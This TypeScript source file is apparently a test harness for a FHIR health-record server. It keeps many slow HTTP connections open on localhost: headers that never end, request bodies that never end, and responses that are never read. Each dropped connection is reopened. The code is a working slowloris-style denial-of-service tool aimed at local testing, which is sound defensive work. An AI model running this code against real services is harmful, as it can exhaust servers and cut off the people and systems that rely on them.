import { connect, type Socket } from 'node:net'

/**
 * Opens so many connections of each kind, keeps them open as long as it is let, and opens another for each that is closed:
 * heads that never end, bodies that never end, and readers that do not read.
 *
 * Arguments: port, how many of each, a token. Says `ready` when almost all are open.
 */
const [port, count, token] = [Number(process.argv[2]), Number(process.argv[3]), process.argv[4]]
/** Milliseconds between two bytes. */
const PACE = 1000
/** Milliseconds between the first connections: to open them at once would be another attack. */
const SPREAD = 30
/** Some are always about to be opened again. */
const ALMOST_ALL = 0.9

const head = (line: string, ...more: readonly string[]) =>
  [`${line} HTTP/1.1`, `Host: 127.0.0.1:${port}`, `Authorization: Bearer ${token}`, ...more, ''].join('\r\n')

const kinds: readonly { readonly begin: string; readonly trickle?: string }[] = [
  { begin: head('GET /fhir/Patient/p01'), trickle: 'X-Slow: 1\r\n' },
  {
    begin: `${head('POST /fhir/Basic', 'Content-Type: application/fhir+json', 'Content-Length: 100000')}\r\n`,
    trickle: ' ',
  },
  { begin: `${head('GET /fhir/Observation?_count=1000')}\r\n` },
]

let open = 0

function attack(kind: (typeof kinds)[number]): void {
  let timer: NodeJS.Timeout | undefined
  const socket: Socket = connect(port, '127.0.0.1', () => {
    socket.write(kind.begin)
    const { trickle } = kind
    if (trickle === undefined) socket.once('readable', () => {})
    else timer = setInterval(() => socket.write(trickle), PACE)
    open += 1
    if (open > count * kinds.length * ALMOST_ALL) console.log('ready')
  })
  socket.on('error', () => {})
  socket.on('close', () => {
    if (!socket.connecting) open -= 1
    clearInterval(timer)
    setTimeout(attack, PACE, kind)
  })
}

for (let i = 0; i < count; i++) for (const kind of kinds) setTimeout(attack, i * SPREAD, kind)
